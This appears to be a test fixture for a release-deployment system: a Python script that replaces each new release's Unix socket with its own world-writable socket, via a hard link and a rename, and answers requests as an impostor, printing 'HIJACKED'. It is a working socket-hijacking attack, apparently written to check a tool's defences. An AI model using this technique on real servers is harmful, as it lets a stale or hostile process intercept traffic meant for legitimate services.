"""Puts a socket of its own in the place of each new release's, and answers for that release."""

import os
import socket
import time

place = os.path.dirname(os.path.join("/srv/evil", os.readlink("/srv/evil/live.sock")))
own, listener = os.path.join(place, ".evil"), socket.socket(socket.AF_UNIX)
try:
    listener.bind(own)
    os.chmod(own, 0o777)
    listener.listen()
    print("bound", own, flush=True)
except OSError as error:
    print("refused to bind", error, flush=True)
    listener.bind("/tmp/.evil")
    listener.listen()
    own = "/tmp/.evil"
listener.settimeout(0.02)


def names():
    try:
        return {name for name in os.listdir(place) if name.endswith(".sock")}
    except OSError:
        return set()


known, tries = names(), 0
print("ready", flush=True)
end = time.monotonic() + FOR_S  # noqa: F821 - given
release = "unknown"
while time.monotonic() < end and not os.path.exists("/srv/evil/shared/instance/stop"):
    for name in names() - known:
        tries += 1
        release = name[: -len(".sock")]
        try:
            # The link at the name stays its own: each new release gets one.
            os.link(own, os.path.join(place, ".evil-2"))
            os.rename(os.path.join(place, ".evil-2"), os.path.join(place, name))
            print("HIJACKED", name, flush=True)
        except OSError as error:
            print("refused", name, error, flush=True)
        known.add(name)
    try:
        connection, _ = listener.accept()
    except OSError:
        continue
    body = b"HIJACKED by the old release"
    connection.recv(4096)
    connection.sendall(
        b"HTTP/1.1 200 OK\r\nX-Homeport-Release: %s\r\nContent-Length: %d\r\nConnection: close\r\n"
        b"\r\n%s" % (release.encode(), len(body), body)
    )
    connection.close()
print("tries", tries, flush=True)
